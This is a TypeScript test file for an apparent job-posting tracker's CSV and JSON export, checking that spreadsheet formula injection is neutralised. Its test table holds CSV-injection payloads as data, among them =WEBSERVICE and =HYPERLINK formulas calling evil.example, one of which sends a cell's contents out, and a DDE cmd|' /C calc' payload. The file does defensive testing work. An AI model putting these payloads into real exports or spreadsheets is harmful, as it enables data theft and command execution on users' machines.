import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { formatCsv, formatPostingsCsv } from '../../../lib/saved/format-csv';
import { formatPostingsJson } from '../../../lib/saved/format-postings-json';
import { SAVED_SKILLS, savedRow, savedText } from '../../builders/saved-row';

/** RFC 4180 read back, for the tests alone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  cell.lastIndex = 1;
  for (let found = cell.exec(text); found; found = cell.exec(text)) {
    rows.at(-1)?.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

test.each([
  ['=HYPERLINK("https://evil.example","x")', '"\'=HYPERLINK(""https://evil.example"",""x"")"'],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', `"'\t'=1"`],
  [' =1', "' =1"],
  ['＝1', "'＝1"],
  ['Engineer', 'Engineer'],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['a\nb', '"a\nb"'],
  ['Analyst; =WEBSERVICE("https://evil.example/"&A1)', '"Analyst; \'=WEBSERVICE(""https://evil.example/""&A1)"'],
  ['Analyst\t@SUM(A1)', '"Analyst\t\'@SUM(A1)"'],
  ['Asks for\n-WEBSERVICE(A1)\r\n+1', '"Asks for\n\'-WEBSERVICE(A1)\r\n\'+1"'],
  ['a\n- WEBSERVICE("https://evil.example")', '"a\n\'- WEBSERVICE(""https://evil.example"")"'],
  ["a\n  - cmd|' /C calc'!A0\n- SQL", "\"a\n  '- cmd|' /C calc'!A0\n- SQL\""],
  ["a\n- 'https://evil.example/[x.xls]S'!A1", "\"a\n'- 'https://evil.example/[x.xls]S'!A1\""],
  ['a;- SUM（A1）\t－1', '"a;\'- SUM（A1）\t\'－1"'],
  ['a\n-1\n--1\n-SQL\n-', "\"a\n'-1\n'--1\n'-SQL\n'-\""],
  ['a\n- =1\n- @A1', '"a\n\'- =1\n\'- @A1"'],
  ['- SQL\n- Python', '"\'- SQL\n- Python"'],
  [
    'Asks for\n- SQL, C++ & "R"\n  -\u00a0Spark/Kafka; - dbt 1.5+\n',
    '"Asks for\n- SQL, C++ & ""R""\n  -\u00a0Spark/Kafka; - dbt 1.5+\n"',
  ],
  ['3-5 years; well-paid = good', '"3-5 years; well-paid = good"'],
])('writes %j as %j', (text, cell) => {
  expect(formatCsv([[text]])).toBe(`\uFEFF${cell}\r\n`);
});

test('a long run of breaks costs no time', () => {
  const start = performance.now();
  formatCsv([[`a${'\n'.repeat(200_000)}${'; '.repeat(200_000)}${' '.repeat(200_000)}`]]);
  formatCsv([[`a${'\n- b'.repeat(100_000)}${'\n- '.repeat(100_000)}${'- '.repeat(100_000)}`]]);
  expect(performance.now() - start).toBeLessThan(1_000);
});

describe('a CSV file', () => {
  it('gives back what was put in, apart from the guard', () => {
    const cell = fc.string({ unit: fc.constantFrom(...'ab,"\r\n ;=+-@(|!\'é') });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 3 }), { minLength: 1 }), (rows) => {
        const read = parseCsv(formatCsv(rows));
        const unguard = (text: string) => text.replaceAll("'", '');
        expect(read.map((row) => row.map(unguard))).toEqual(rows.map((row) => row.map(unguard)));
        for (const part of read.flat().flatMap((text) => text.split(/[;\t\r\n]/))) {
          expect(part).not.toMatch(/^\s*(?:[=+@]|-(?!\s[^=(|!@]*$))/);
        }
      }),
    );
  });

  it('has a column for each thing that is kept, with the text', () => {
    const row = savedRow({
      title: '=1+1',
      notes: 'a "b"\nc',
      dates: { saved: '2026-10-01T08:00:00.000Z', applied: '2026-10-02T08:00:00.000Z' },
    });
    const [head = [], line = []] = parseCsv(formatPostingsCsv([row], new Map([['a', '-- text']])));
    const cells = Object.fromEntries(head.map((name, at) => [name, line[at]]));
    expect(cells).toMatchObject({
      ...{ title: "'=1+1", company: 'Tallywren', status: 'saved', saved_on: '2026-10-01', applied_on: '2026-10-02' },
      ...{ pay_min: '70000', coverage: '64', notes: 'a "b"\nc', description: "'-- text", interview_on: '' },
    });
    expect(line).toHaveLength(head.length);
  });
});

test('the JSON export holds texts and skills, and null for a text that was lost', () => {
  const whole = { row: savedRow(), skills: SAVED_SKILLS, posting: savedText() };
  const file = JSON.parse(formatPostingsJson([whole, { ...whole, posting: undefined }], '2026-11-21T00:00:00.000Z'));
  expect(file).toMatchObject({ format: 'rolelens-postings', version: 1 });
  expect(file.postings[0]).toEqual({ ...savedRow(), skills: SAVED_SKILLS, posting: savedText() });
  expect(file.postings[1].posting).toBeNull();
});
